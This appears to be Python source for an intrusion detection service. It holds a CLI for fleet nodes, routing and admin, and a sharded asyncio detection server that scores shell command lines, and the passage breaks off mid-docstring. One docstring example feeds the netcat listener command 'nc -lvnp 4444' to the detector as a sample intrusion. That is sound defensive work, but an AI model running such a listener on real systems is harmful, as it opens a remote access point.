        repro-ids fleet-admin --node 127.0.0.1:9101 resize 4
        repro-ids fleet-admin --node 127.0.0.1:9101 drain

    ``status`` merges every node's metrics snapshot into fleet totals;
    ``swap`` rolls the fleet one node at a time, draining each node
    (it nacks ingest while draining, so a live router re-routes around
    it) and fencing each swap on the node's observed generation.

All three speak the frame protocol of :mod:`repro.fleet.protocol`;
``fleet-admin`` uses the blocking :class:`FleetChannel` so it needs no
event loop.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import sys
from collections.abc import Iterable
from typing import TextIO

from repro.errors import ConfigError, FleetError, ReproError
from repro.fleet.config import FleetConfig, load_fleet_file, parse_address
from repro.fleet.node import FleetNode
from repro.fleet.protocol import FleetChannel, admin_message
from repro.fleet.router import FleetRouter
from repro.serving.config import ServingConfig
from repro.serving.metrics import ServingMetrics
from repro.serving.server import DetectionServer


def _build_service(bundle: str | None, out: TextIO):
    if bundle is not None:
        from repro.ids.pipeline import IntrusionDetectionService

        return IntrusionDetectionService.load(bundle)
    from repro.serving.demo import build_demo_service

    print("no --bundle given; training a small demo service ...", file=out)
    return build_demo_service()


# -- fleet-node ---------------------------------------------------------------


def build_node_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="repro-ids fleet-node",
        description="Run one fleet serving node: a TCP face on a detection server.",
    )
    parser.add_argument(
        "--bind",
        required=True,
        metavar="HOST:PORT",
        help="ingest address to listen on (port 0 = OS-assigned, printed at start)",
    )
    parser.add_argument(
        "--config",
        default=None,
        metavar="FILE",
        help="deployment file (.toml/.json); this node uses its serving tables",
    )
    parser.add_argument(
        "--bundle",
        default=None,
        help="saved service bundle to serve (default: train a small demo service)",
    )
    parser.add_argument(
        "--node-id", default=None, help="stable node id for status output (default: bind)"
    )
    return parser


async def _run_node(args: argparse.Namespace, out: TextIO) -> int:
    host, port = parse_address(args.bind, path="--bind")
    if args.config is not None:
        _, serving = load_fleet_file(args.config)
    else:
        serving = ServingConfig()
    service = _build_service(args.bundle, out)
    server = DetectionServer.from_config(service, serving)
    node = FleetNode(server, host=host, port=port, node_id=args.node_id)
    await node.start()
    print(f"fleet node {node.node_id} listening on {node.address}", file=out, flush=True)
    try:
        await node.serve_forever()
    except asyncio.CancelledError:
        pass
    finally:
        await node.stop()
    return 0


def fleet_node_main(argv: Iterable[str] | None = None, stdout: TextIO | None = None) -> int:
    out = stdout or sys.stdout
    args = build_node_parser().parse_args(list(argv) if argv is not None else None)
    try:
        return asyncio.run(_run_node(args, out))
    except KeyboardInterrupt:
        return 0
    except ReproError as exc:
        print(f"error: {exc}", file=sys.stderr)
        return 2


# -- fleet-route --------------------------------------------------------------


def build_route_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="repro-ids fleet-route",
        description="Stream events through a fleet of serving nodes.",
    )
    parser.add_argument(
        "--config",
        required=True,
        metavar="FILE",
        help="deployment file with a [fleet] table naming the nodes",
    )
    parser.add_argument(
        "--input",
        default="-",
        help="event file, one event per line ('-' = stdin; default)",
    )
    parser.add_argument(
        "--limit", type=int, default=None, help="stop after this many input events"
    )
    parser.add_argument(
        "--no-heartbeats",
        action="store_true",
        help="disable heartbeat probing (liveness from connection failures only)",
    )
    parser.add_argument(
        "--quiet", action="store_true", help="suppress the merged metrics report"
    )
    return parser


async def _run_route(args: argparse.Namespace, out: TextIO) -> int:
    from repro.serving.cli import read_events

    fleet, _ = load_fleet_file(args.config)
    if args.input == "-":
        events = list(read_events(sys.stdin, args.limit))
    else:
        with open(args.input, encoding="utf-8") as handle:
            events = list(read_events(handle, args.limit))
    router = FleetRouter(fleet, heartbeats=not args.no_heartbeats)
    async with router:
        await router.submit_many(events)
        await router.drain()
        status = await router.status()
    merged = status["merged"]
    print(
        f"routed {router.events_submitted} events across "
        f"{len(status['nodes'])} nodes "
        f"({router.events_replayed} replayed, {router.nodes_evicted} evicted)",
        file=out,
    )
    if not args.quiet:
        print(json.dumps(status["router"], indent=2, default=str), file=out)
        print(json.dumps(merged, indent=2, default=str), file=out)
    return 0


def fleet_route_main(argv: Iterable[str] | None = None, stdout: TextIO | None = None) -> int:
    out = stdout or sys.stdout
    args = build_route_parser().parse_args(list(argv) if argv is not None else None)
    try:
        return asyncio.run(_run_route(args, out))
    except KeyboardInterrupt:
        return 130
    except OSError as exc:
        print(f"error: cannot read --input {args.input}: {exc}", file=sys.stderr)
        return 2
    except ReproError as exc:
        print(f"error: {exc}", file=sys.stderr)
        return 2


# -- fleet-admin --------------------------------------------------------------


def build_admin_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="repro-ids fleet-admin",
        description="Control-plane verbs against a fleet or a single node.",
    )
    target = parser.add_mutually_exclusive_group(required=True)
    target.add_argument(
        "--config",
        metavar="FILE",
        help="deployment file; the verb addresses every node in its [fleet] table",
    )
    target.add_argument(
        "--node", metavar="HOST:PORT", help="address a single node instead"
    )
    parser.add_argument(
        "--timeout", type=float, default=10.0, help="per-request timeout in seconds"
    )
    sub = parser.add_subparsers(dest="verb", required=True)
    sub.add_parser("status", help="per-node status + merged fleet metrics")
    swap = sub.add_parser("swap", help="rolling generation-fenced model swap")
    swap.add_argument("bundle", help="bundle directory the nodes can reach")
    resize = sub.add_parser("resize", help="resize the scoring backend pool")
    resize.add_argument("workers", type=int)
    sub.add_parser("drain", help="node nacks new batches until undrained")
    sub.add_parser("undrain", help="resume accepting batches")
    return parser


def _admin_targets(args: argparse.Namespace) -> list[str]:
    if args.node is not None:
        parse_address(args.node, path="--node")
        return [args.node]
    fleet = FleetConfig.from_file(args.config)
    if not fleet.nodes:
        raise FleetError(f"{args.config} has no fleet.nodes to address")
    return list(fleet.nodes)


def _request(address: str, message: dict, timeout: float) -> dict:
    host, port = parse_address(address)
    try:
        with FleetChannel(host, port, timeout=timeout) as channel:
            answer = channel.request(message)
    except OSError as exc:
        raise FleetError(f"cannot reach node {address}: {exc}") from exc
    if answer.get("type") == "error":
        raise FleetError(f"{address} rejected the request: {answer.get('error')}")
    if answer.get("type") == "admin_ack" and not answer.get("ok", False):
        raise FleetError(f"{address} refused {message.get('verb')}: {answer.get('error')}")
    return answer


def _admin_status(targets: list[str], timeout: float, out: TextIO) -> int:
    nodes = []
    snapshots = []
    for address in targets:
        answer = _request(address, admin_message("status"), timeout)
        metrics = answer.pop("metrics", None)
        nodes.append(answer)
        if metrics is not None:
            snapshots.append(ServingMetrics.from_dict(metrics))
    merged = ServingMetrics.merged(snapshots) if snapshots else ServingMetrics()
    print(
        json.dumps({"nodes": nodes, "merged": merged.snapshot()}, indent=2, default=str),
        file=out,
    )
    return 0


def _admin_swap(targets: list[str], bundle: str, timeout: float, out: TextIO) -> int:
    """Roll *bundle* across the nodes, one at a time.

    Each node is drained first (it nacks ingest, so a live router
    re-routes around it), swapped behind a generation fence, then
    undrained — the standalone twin of
    :meth:`FleetRouter.swap_fleet` for fleets driven by an external
    router process.
    """
    generations = []
    for address in targets:
        _request(address, admin_message("drain"), timeout)
        try:
            status = _request(address, admin_message("status"), timeout)
            answer = _request(
                address,
                admin_message(
                    "swap", bundle=bundle, expect_generation=status.get("generation")
                ),
                timeout,
            )
        finally:
            _request(address, admin_message("undrain"), timeout)
        generations.append(answer.get("generation"))
        print(
            f"{address}: generation {answer.get('generation')} "
            f"(swap {answer.get('swap_ms', 0):.1f} ms)",
            file=out,
        )
    if len(set(generations)) > 1:
        raise FleetError(f"fleet did not converge: generations {generations}")
    print(f"fleet at generation {generations[0]}" if generations else "no nodes", file=out)
    return 0


def fleet_admin_main(argv: Iterable[str] | None = None, stdout: TextIO | None = None) -> int:
    out = stdout or sys.stdout
    args = build_admin_parser().parse_args(list(argv) if argv is not None else None)
    try:
        targets = _admin_targets(args)
        if args.verb == "status":
            return _admin_status(targets, args.timeout, out)
        if args.verb == "swap":
            return _admin_swap(targets, args.bundle, args.timeout, out)
        for address in targets:
            if args.verb == "resize":
                answer = _request(
                    address, admin_message("resize", workers=args.workers), args.timeout
                )
                print(f"{address}: workers={answer.get('workers')}", file=out)
            else:  # drain / undrain
                answer = _request(address, admin_message(args.verb), args.timeout)
                print(f"{address}: draining={answer.get('draining')}", file=out)
        return 0
    except (ConfigError, FleetError) as exc:
        print(f"error: {exc}", file=sys.stderr)
        return 2
