"""The asyncio streaming detection server (the always-on path of Figure 1).

Per event, the flow is::

    submit(line, host) ──► ShardRouter (consistent hash of host)
                              │
                              ▼  (the owning shard's pipeline)
                           preprocess (normalize + parse-validate)
                              │ dropped? ──► DetectionResult(dropped=True)
                              ▼
                           ScoreCache ── hit ──► score
                              │ miss
                              ▼
                           MicroBatcher ──► ScoringBackend.score(batch)
                              ▼
                           threshold ── intrusion? ──► DetectionAlert
                                                         │
                                    SessionAggregator + DeliveryPipeline

:class:`DetectionServer` is a thin router: the per-event pipeline lives
in :class:`~repro.serving.shard.ShardRuntime`, and the server
consistent-hashes each event's host across N of them.  Every shard owns
its own micro-batcher, score cache, and session table — all of a host's
state is shard-local and lock-free — while the model bundle, scoring
backend, and delivery pipeline stay shared.  Batches from different
shards score concurrently (each shard serializes only its own), which
is what lets throughput scale with cores; with ``shards=1`` the server
is behaviourally identical to the original single-path event loop.

:meth:`DetectionServer.swap_model` rotates the whole stack onto a new
model bundle without dropping an event (the paper's weekly
continual-learning hand-off), draining **every** shard before the
rotation so no batch anywhere mixes generations.  An optional
:class:`~repro.serving.autoscale.Autoscaler` control loop resizes the
scoring-backend pool from observed backlog, batch latency, and the
generation-scoped cache hit rate.  Everything is in-process and
unit-testable without sockets.
"""

from __future__ import annotations

import asyncio
import contextlib
import threading
import time
import warnings
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from functools import partial
from pathlib import Path
from typing import TextIO

from repro.errors import ConfigError
from repro.ids.pipeline import IntrusionDetectionService
from repro.serving.autoscale import Autoscaler, AutoscaleObservation
from repro.serving.backends import (
    InlineBackend,
    ProcessPoolBackend,
    ScoringBackend,
    ServiceLoader,
    ThreadedBackend,
    load_bundle,
    load_bundle_compiled,
)
from repro.serving.cache import ScoreCache
from repro.serving.config import (
    AutoscaleConfig,
    BackendConfig,
    CanonicalizeConfig,
    ServingConfig,
    SessionConfig,
)
from repro.serving.delivery import DeliveryPipeline
from repro.serving.events import CommandEvent, DetectionResult
from repro.serving.metrics import ServingMetrics
from repro.serving.microbatch import MicroBatcher
from repro.serving.sessions import ShardedSessionView
from repro.serving.shard import ShardContext, ShardRouter, ShardRuntime
from repro.serving.sinks import DEFAULT_SINK_REGISTRY, AlertSink, SinkRegistry


@dataclass(frozen=True)
class SwapReport:
    """What one :meth:`DetectionServer.swap_model` call did.

    Attributes
    ----------
    generation:
        The server's model generation *after* the swap.
    bundle_dir:
        Bundle directory the new model came from (``None`` when the
        caller handed over a service/loader directly).
    swap_ms:
        End-to-end wall time of the swap, including loading the new
        bundle and draining the in-flight batches.
    drain_ms:
        Portion spent waiting for every shard's in-flight batch to
        finish — the window during which new batches were held back.
    cache_invalidated:
        Entries purged across all shard caches by the generation bump.
    """

    generation: int
    bundle_dir: str | None
    swap_ms: float
    drain_ms: float
    cache_invalidated: int


def backend_from_config(
    config: BackendConfig,
    service: IntrusionDetectionService,
    autoscale: AutoscaleConfig | None = None,
) -> ScoringBackend:
    """Build the :class:`ScoringBackend` a :class:`BackendConfig` describes.

    ``auto`` resolves to ``inline`` for one worker and ``process``
    otherwise — unless *autoscale* is enabled, in which case ``auto``
    resolves to ``threaded`` (the pool must be resizable, and inline
    has exactly one unresizable lane; an explicit ``inline`` with
    autoscaling on is a configuration error).  The process pool needs
    an on-disk bundle for its workers to deserialize, so a service that
    was never saved (``service.source_dir is None``) cannot back a
    process backend — save it first (the CLI does this automatically
    for the demo service).

    With ``config.compiled`` on, in-process backends score through the
    *service* (which the server compiles), and process workers get the
    compiled loader so each worker compiles its own plan from its own
    deserialized model — the worker-side generation check then makes
    stale plans impossible by construction.
    """
    if autoscale is not None and autoscale.enabled:
        if config.kind == "inline":
            raise ConfigError(
                "backend.kind 'inline' cannot autoscale (a single in-loop "
                "scoring lane has no pool to resize); use 'threaded' or "
                "'process', or disable autoscale"
            )
        if config.kind == "auto":
            # an autoscaled "auto" backend is always the threaded pool,
            # started at the autoscaler's floor: resizable at any worker
            # count and with no bundle-directory requirement
            return ThreadedBackend(
                service, workers=max(config.workers, autoscale.min_workers)
            )
    kind = config.resolved_kind
    if kind == "inline":
        return InlineBackend(service)
    if kind == "threaded":
        return ThreadedBackend(service, workers=config.workers)
    bundle_dir = getattr(service, "source_dir", None)
    if bundle_dir is None:
        raise ConfigError(
            "backend.kind 'process' needs a saved bundle directory to fork "
            "workers from, but the service has no source_dir; save the "
            "service (service.save(dir)) or serve it with backend.kind "
            "'inline'/'threaded'"
        )
    loader = None
    if config.compiled:
        loader = partial(load_bundle_compiled, str(bundle_dir), config.precision)
    return ProcessPoolBackend(
        str(bundle_dir),
        loader=loader,
        workers=config.workers,
        transport=config.transport,
    )


def _require_sequence_head(mode: str, service) -> None:
    """Fail fast when an escalation mode needs a head the service lacks."""
    if mode != "count" and not getattr(service, "has_sequence_head", False):
        raise ConfigError(
            f"session.mode {mode!r} needs a service with a multi-line head "
            "(a bundle saved with a 'multiline/' directory); attach one with "
            "IntrusionDetectionService.attach_multiline() or serve with "
            "session.mode 'count'"
        )


def _warn_on_composition_skew(session, service) -> None:
    """Surface train/serve composition drift for the sequence stage.

    The bundle records the composer the multi-line head was trained
    with; serving with a different window or gap silently reshapes the
    head's inputs, so say so up front.
    """
    if session.mode == "count":
        return
    meta = getattr(service, "multiline_composer_meta", None) or {}
    trained_window = meta.get("window")
    trained_gap = meta.get("max_gap_seconds")
    skewed = (trained_window is not None and trained_window != session.context_window) or (
        trained_gap is not None and trained_gap != session.context_max_gap_seconds
    )
    if skewed:
        warnings.warn(
            f"session composition (context_window={session.context_window}, "
            f"context_max_gap_seconds={session.context_max_gap_seconds}) differs "
            f"from the multi-line head's training composer (window="
            f"{trained_window}, max_gap_seconds={trained_gap}); the sequence "
            "stage will score windows shaped unlike its training data",
            stacklevel=3,
        )


class DetectionServer:
    """Sharded streaming front-end over an :class:`IntrusionDetectionService`.

    :meth:`from_config` is the canonical constructor — one typed
    :class:`~repro.serving.config.ServingConfig` describes the whole
    deployment (batching, cache + admission, backend, sessions, shards,
    autoscaling, sinks + delivery policies).  The keyword arguments
    below remain as a thin compatibility layer over the same machinery.

    Parameters
    ----------
    service:
        A fitted detection service (only its ``preprocess``,
        ``score_normalized`` and ``threshold`` surface is used, so tests
        may substitute a lightweight stub).
    backend:
        Scoring execution strategy, shared by every shard (default:
        score inline with *service*).  Pass a
        :class:`~repro.serving.backends.ThreadedBackend` or
        :class:`~repro.serving.backends.ProcessPoolBackend` to shard
        micro-batches across workers — with multiple shards, whole
        batches from different shards also overlap.
    max_batch / max_latency_ms:
        Per-shard micro-batch policy: flush on size or on the oldest
        event's queueing deadline, whichever first.
    cache_size / cache_ttl_seconds / cache_admission:
        Per-shard score-cache policy: LRU capacity (0 disables),
        optional time-to-live expiry, and the admission gate
        (``"lru"`` or ``"tinylfu"`` — see
        :class:`~repro.serving.cache.ScoreCache`).
    sinks:
        Alert sinks to fan confirmed detections out to: an iterable of
        :class:`AlertSink` (each delivered through the durable pipeline
        under the default :class:`~repro.serving.config.DeliveryPolicy`)
        or a pre-assembled
        :class:`~repro.serving.delivery.DeliveryPipeline` — shared by
        all shards.
    session:
        Full per-host escalation policy as a
        :class:`~repro.serving.config.SessionConfig` — including the
        escalation ``mode``; the sequence modes run each flagged event's
        composed per-host command window through the service's
        multi-line head (second stage, flagged events only).
    session_window_seconds / escalation_threshold:
        Compatibility shorthand for the two count-policy fields of
        *session* (ignored when *session* is given).
    metrics:
        Optional externally-owned :class:`ServingMetrics` bundle.  With
        one shard it receives everything; with several it receives the
        control-plane figures (swaps, autoscaling) while each shard
        keeps its own bundle — read :attr:`metrics` for the merged
        fleet view.
    shards / shard_virtual_nodes:
        How many :class:`~repro.serving.shard.ShardRuntime` pipelines
        to consistent-hash hosts across, and the hash-ring points per
        shard.  ``shards=1`` (default) is behaviourally identical to
        the pre-shard single-path server.
    autoscale:
        Optional :class:`~repro.serving.config.AutoscaleConfig`; when
        enabled (and the backend is resizable) the server runs an
        :class:`~repro.serving.autoscale.Autoscaler` loop while started.

    Example
    -------
    >>> async with DetectionServer(service, shards=4) as server:    # doctest: +SKIP
    ...     result = await server.submit("nc -lvnp 4444", host="web-3")
    ...     result.is_intrusion
    True
    """

    def __init__(
        self,
        service: IntrusionDetectionService,
        *,
        backend: ScoringBackend | None = None,
        max_batch: int = 32,
        max_latency_ms: float = 25.0,
        cache_size: int = 4096,
        cache_ttl_seconds: float | None = None,
        cache_admission: str = "lru",
        sinks: Iterable[AlertSink] | DeliveryPipeline = (),
        session: SessionConfig | None = None,
        session_window_seconds: float = 300.0,
        escalation_threshold: int = 5,
        metrics: ServingMetrics | None = None,
        shards: int = 1,
        shard_virtual_nodes: int = 64,
        autoscale: AutoscaleConfig | None = None,
        columnar: bool = True,
        canonicalize: CanonicalizeConfig | None = None,
        compiled: bool = True,
        precision: str = "float64",
    ):
        if shards < 1:
            raise ValueError("shards must be >= 1")
        #: Whether in-process scoring should run through a compiled
        #: inference plan (``compiled = false`` is byte-identical to the
        #: pre-compilation pipeline; models the compiler doesn't cover
        #: fall back with a warning).
        self.compiled = bool(compiled)
        self.precision = precision
        if self.compiled and hasattr(service, "compile_inference"):
            service.compile_inference(precision)
        backend = backend or InlineBackend(service)
        if isinstance(sinks, DeliveryPipeline):
            pipeline = sinks
        else:
            pipeline = DeliveryPipeline(sinks)
        #: The declarative config this server was assembled from
        #: (set by :meth:`from_config`; ``None`` for kwargs construction).
        self.config: ServingConfig | None = None
        if session is None:
            session = SessionConfig(
                window_seconds=session_window_seconds,
                escalation_threshold=escalation_threshold,
            )
        _require_sequence_head(session.mode, service)
        _warn_on_composition_skew(session, service)
        #: The resolved per-host escalation policy (shared by all shards).
        self.session_policy = session
        #: Autoscaling policy (disabled by default).
        self.autoscale_policy = autoscale or AutoscaleConfig()
        #: Canonicalization stage policy (disabled by default — off is
        #: byte-identical to the pre-canonicalization pipeline).
        self.canonicalize_policy = canonicalize or CanonicalizeConfig()
        self._ctx = ShardContext(service, backend, pipeline)
        self.router = ShardRouter(shards, virtual_nodes=shard_virtual_nodes)
        if shards == 1:
            # single-path deployment: one metrics bundle sees everything,
            # exactly as before the shard refactor
            shard_metrics = [metrics or ServingMetrics()]
            self._control_metrics = shard_metrics[0]
        else:
            shard_metrics = [ServingMetrics() for _ in range(shards)]
            self._control_metrics = metrics or ServingMetrics()
        #: The per-shard pipelines, indexable by the router's shard id.
        self.shards = [
            ShardRuntime(
                shard_id,
                context=self._ctx,
                max_batch=max_batch,
                max_latency_ms=max_latency_ms,
                cache_size=cache_size,
                cache_ttl_seconds=cache_ttl_seconds,
                cache_admission=cache_admission,
                session=session,
                metrics=shard_metrics[shard_id],
                columnar=columnar,
                canonicalize=self.canonicalize_policy,
            )
            for shard_id in range(shards)
        ]
        described = backend.describe()
        self._control_metrics.backend = described
        self._control_metrics.shards = shards
        for runtime in self.shards:
            runtime.metrics.backend = described
        self.autoscaler: Autoscaler | None = None
        self._autoscale_task: asyncio.Task | None = None
        self._swap_lock: asyncio.Lock | None = None

    # -- shared-state views --------------------------------------------------

    @property
    def service(self) -> IntrusionDetectionService:
        """The live model service (rotated by :meth:`swap_model`)."""
        return self._ctx.service

    @property
    def backend(self) -> ScoringBackend:
        """The scoring backend shared by every shard."""
        return self._ctx.backend

    @property
    def sinks(self) -> DeliveryPipeline:
        """The durable delivery pipeline shared by every shard."""
        return self._ctx.sinks

    @property
    def generation(self) -> int:
        """Current model generation (bumped by every hot swap)."""
        return self._ctx.generation

    @property
    def metrics(self) -> ServingMetrics:
        """Serving metrics: the live bundle (one shard) or a merged
        fleet-wide snapshot (several shards)."""
        if len(self.shards) == 1:
            return self.shards[0].metrics
        merged = ServingMetrics.merged(
            [runtime.metrics for runtime in self.shards] + [self._control_metrics]
        )
        merged.shards = len(self.shards)
        return merged

    @property
    def sessions(self):
        """Per-host session state: the single aggregator (one shard) or
        a read-only :class:`~repro.serving.sessions.ShardedSessionView`."""
        if len(self.shards) == 1:
            return self.shards[0].sessions
        return ShardedSessionView([runtime.sessions for runtime in self.shards])

    @property
    def cache(self) -> ScoreCache:
        """The score cache (single-shard servers only — each shard owns
        one; use ``server.shards[i].cache`` on a sharded server)."""
        if len(self.shards) == 1:
            return self.shards[0].cache
        raise AttributeError(
            "a sharded server has one cache per shard; use server.shards[i].cache"
        )

    @property
    def batcher(self) -> MicroBatcher:
        """The micro-batcher (single-shard servers only — each shard owns
        one; use ``server.shards[i].batcher`` on a sharded server)."""
        if len(self.shards) == 1:
            return self.shards[0].batcher
        raise AttributeError(
            "a sharded server has one batcher per shard; use server.shards[i].batcher"
        )

    # -- declarative construction ------------------------------------------

    @classmethod
    def from_config(
        cls,
        bundle: str | Path | IntrusionDetectionService,
        config: ServingConfig | None = None,
        *,
        metrics: ServingMetrics | None = None,
        registry: SinkRegistry | None = None,
        record: bool = True,
    ) -> "DetectionServer":
        """Assemble a server from a bundle and a declarative config.

        This is the canonical constructor behind ``repro-ids serve
        --config serve.toml``.  *bundle* is a
        :meth:`IntrusionDetectionService.save` directory (or an
        already-constructed service).  *config* resolution order:

        1. the *config* argument,
        2. the config recorded in the bundle's metadata (a bundle
           remembers how it was last served),
        3. ``ServingConfig()`` defaults.

        Sinks are built from the config's URI specs via *registry*
        (default: the process-wide registry) and wrapped in a
        :class:`~repro.serving.delivery.DeliveryPipeline` honouring each
        spec's delivery policy.  When *record* is true and the service
        came from a bundle directory, the resolved config is written
        back into the bundle metadata (best-effort), so the next
        ``from_config(bundle)`` without an explicit config reproduces
        this deployment.  ``from_config(..., shards=1)`` — the default
        — stays behaviourally identical to the pre-shard single-path
        server.
        """
        if isinstance(bundle, (str, Path)):
            service = IntrusionDetectionService.load(bundle)
        else:
            service = bundle  # an already-constructed service (or test stub)
        if config is None:
            config = getattr(service, "serving_config", None) or ServingConfig()
        backend = backend_from_config(config.backend, service, autoscale=config.autoscale)
        pipeline = DeliveryPipeline()
        registry = registry or DEFAULT_SINK_REGISTRY
        for spec in config.sinks:
            pipeline.add(registry.build(spec.uri), policy=spec.policy, name=spec.name)
        server = cls(
            service,
            backend=backend,
            max_batch=config.batch.max_batch,
            max_latency_ms=config.batch.max_latency_ms,
            cache_size=config.cache.size,
            cache_ttl_seconds=config.cache.ttl_seconds,
            cache_admission=config.cache.admission,
            sinks=pipeline,
            session=config.session,
            metrics=metrics,
            shards=config.shards.count,
            shard_virtual_nodes=config.shards.virtual_nodes,
            autoscale=config.autoscale,
            columnar=config.batch.columnar,
            canonicalize=config.canonicalize,
            compiled=config.backend.compiled,
            precision=config.backend.precision,
        )
        server.config = config
        if record:
            recorder = getattr(service, "record_serving_config", None)
            if callable(recorder):
                recorder(config)
        return server

    # -- lifecycle ---------------------------------------------------------

    async def start(self) -> None:
        """Start the backend, every shard's pipeline, sinks, and clocks."""
        # locks bind to the running loop; (re)create them here so a
        # stopped server can restart on a new loop
        self._swap_lock = asyncio.Lock()
        self._control_metrics.mark_start()
        self.sinks.start()
        await self._ctx.backend.start()
        # pay one-time scoring costs (worker hydration, plan scratch,
        # lazy tokenizers) before the first real batch can observe them
        await self._ctx.backend.warm_up()
        for runtime in self.shards:
            await runtime.start()
        if self.autoscale_policy.enabled:
            if self._ctx.backend.can_resize:
                self.autoscaler = Autoscaler(
                    self.autoscale_policy,
                    self._observe,
                    self._apply_workers,
                    metrics=self._control_metrics,
                )
                self._autoscale_task = asyncio.get_running_loop().create_task(
                    self.autoscaler.run()
                )
            else:
                warnings.warn(
                    f"autoscale.enabled with a fixed backend "
                    f"({self._ctx.backend.describe()}); the pool cannot be "
                    "resized, so the autoscaler was not started",
                    stacklevel=2,
                )

    async def stop(self) -> None:
        """Drain every shard, stop the backend, close sinks, freeze clocks.

        Closing the delivery pipeline blocks until every queued alert is
        delivered, retried out, or dead-lettered — run it off-loop so
        sink backoff never stalls the event loop.
        """
        autoscale_failure: BaseException | None = None
        if self._autoscale_task is not None:
            self._autoscale_task.cancel()
            try:
                await self._autoscale_task
            except asyncio.CancelledError:
                # distinguish the task's expected cancellation from
                # stop() itself being cancelled (e.g. wait_for timeout):
                # the latter must propagate, not be absorbed here
                current = asyncio.current_task()
                if current is not None and current.cancelling():
                    self._autoscale_task = None
                    raise
            except BaseException as exc:
                # a dead control loop must not abort shutdown: drain the
                # shards and deliver queued alerts first, then surface it
                autoscale_failure = exc
            self._autoscale_task = None
        for runtime in self.shards:
            await runtime.stop()
        await self._ctx.backend.stop()
        await asyncio.to_thread(self.sinks.close)
        self._control_metrics.mark_stop()
        if autoscale_failure is not None:
            raise autoscale_failure

    async def __aenter__(self) -> "DetectionServer":
        await self.start()
        return self

    async def __aexit__(self, *exc_info) -> None:
        await self.stop()

    # -- event path --------------------------------------------------------

    async def submit(
        self, line: str, host: str = "-", timestamp: float | None = None
    ) -> DetectionResult:
        """Score one raw command line from *host*; full serving path.

        The host is consistent-hashed onto its owning shard; the
        shard's pipeline does the rest.
        """
        when = time.time() if timestamp is None else float(timestamp)
        runtime = self.shards[self.router.route(host)]
        return await runtime.process(line, host, when)

    async def submit_event(self, event: CommandEvent) -> DetectionResult:
        """Submit a :class:`CommandEvent` (record-style convenience)."""
        return await self.submit(event.line, host=event.host, timestamp=event.timestamp)

    async def submit_many(
        self, events: Iterable[CommandEvent | str]
    ) -> list[DetectionResult]:
        """Score a pre-collected batch of events through the batch-first path.

        Events are routed by host to their owning shards and each shard
        runs its slice through
        :meth:`~repro.serving.shard.ShardRuntime.process_batch` — one
        preprocess pass, one cache sweep, one deduplicated (columnar
        when available) scoring call, one batched second-stage call —
        with shards processing concurrently.  Results come back in
        input order.  Within a shard, events keep their relative input
        order, so per-host session semantics match submitting them one
        at a time.
        """
        materialized = [
            event if isinstance(event, CommandEvent) else CommandEvent(line=event)
            for event in events
        ]
        if not materialized:
            return []
        by_shard: dict[int, list[int]] = {}
        for position, event in enumerate(materialized):
            by_shard.setdefault(self.router.route(event.host), []).append(position)
        results: list[DetectionResult | None] = [None] * len(materialized)

        now = time.time()

        async def run_shard(shard_id: int, positions: list[int]) -> None:
            runtime = self.shards[shard_id]
            batch = [
                (
                    materialized[p].line,
                    materialized[p].host,
                    now if materialized[p].timestamp is None else float(materialized[p].timestamp),
                )
                for p in positions
            ]
            for position, result in zip(positions, await runtime.process_batch(batch)):
                results[position] = result
        await asyncio.gather(
            *(run_shard(shard_id, positions) for shard_id, positions in by_shard.items())
        )
        return [result for result in results if result is not None]

    # -- hot model swap ----------------------------------------------------

    async def swap_model(
        self,
        bundle_dir: str | None = None,
        *,
        service: IntrusionDetectionService | None = None,
        loader: ServiceLoader | None = None,
    ) -> SwapReport:
        """Atomically rotate the server onto a new model bundle.

        The sequence is: load the new bundle (off-loop, while old-model
        scoring continues), wait for **every shard's** in-flight batch
        to drain while holding back new ones, rotate the scoring
        backend, bump the model generation, and purge all shard score
        caches.  Events submitted during the swap are never dropped —
        they queue in their shard's micro-batcher and score against the
        new model; no batch on any shard mixes generations because
        rotation happens while all shard score locks are held.

        Callers pass one of:

        - *bundle_dir* — a :meth:`IntrusionDetectionService.save`
          directory (the normal production path, e.g. from
          :meth:`ContinualLearner.export_service`);
        - *service* (plus *loader* when the backend runs worker
          processes) — pre-constructed objects, used by tests.

        Note the calibrated threshold swaps together with the model:
        an event scored by the old model but thresholded after the swap
        uses the new threshold (the race window is one batch wide).
        """
        if bundle_dir is None and service is None and loader is None:
            raise ValueError("swap_model needs a bundle_dir, a service, or a loader")
        if loader is None and bundle_dir is not None:
            # the incoming generation inherits the server's compilation
            # policy — worker processes rebuild their plan from this
            # loader on generation mismatch, so a swap can never leave a
            # stale (old-weights) plan serving traffic
            if self.compiled:
                loader = partial(load_bundle_compiled, str(bundle_dir), self.precision)
            else:
                loader = partial(load_bundle, str(bundle_dir))
        if self._swap_lock is None:
            raise RuntimeError("DetectionServer is not running; call start() first")
        async with self._swap_lock:
            started = time.perf_counter()
            if service is None:
                # deserialize off-loop: scoring with the old model continues
                service = await asyncio.to_thread(loader)
            elif self.compiled and hasattr(service, "compile_inference"):
                # pre-constructed service (test path): compile it here so
                # the in-loop reference never serves the tape while the
                # workers serve a plan
                await asyncio.to_thread(service.compile_inference, self.precision)
            # a sequence-mode server must never rotate onto a bundle that
            # lost its second stage — fail before touching the backend
            _require_sequence_head(self.session_policy.mode, service)
            drain_started = time.perf_counter()
            async with contextlib.AsyncExitStack() as stack:
                # quiesce the fleet: hold every shard's score lock, so no
                # batch anywhere is in flight while the backend rotates
                for runtime in self.shards:
                    await stack.enter_async_context(runtime.score_lock)
                drain_ms = (time.perf_counter() - drain_started) * 1000.0
                await self._ctx.backend.swap(service=service, loader=loader)
                # warm the new generation while scoring is still quiesced:
                # the first post-swap batch must not pay worker rehydration
                # or plan-scratch allocation (no p99 spike across a swap)
                await self._ctx.backend.warm_up()
                self._ctx.service = service
                self._ctx.generation += 1
                invalidated = sum(
                    runtime.cache.bump_generation() for runtime in self.shards
                )
            swap_ms = (time.perf_counter() - started) * 1000.0
            self._control_metrics.record_swap(swap_ms)
            return SwapReport(
                generation=self._ctx.generation,
                bundle_dir=None if bundle_dir is None else str(bundle_dir),
                swap_ms=swap_ms,
                drain_ms=drain_ms,
                cache_invalidated=invalidated,
            )

    async def resize_backend(self, workers: int) -> bool:
        """Resize the scoring-backend pool to *workers* (quiesced).

        The operational twin of the autoscaler's actuator — exposed so a
        control plane (``repro-ids fleet-admin resize``) can size the
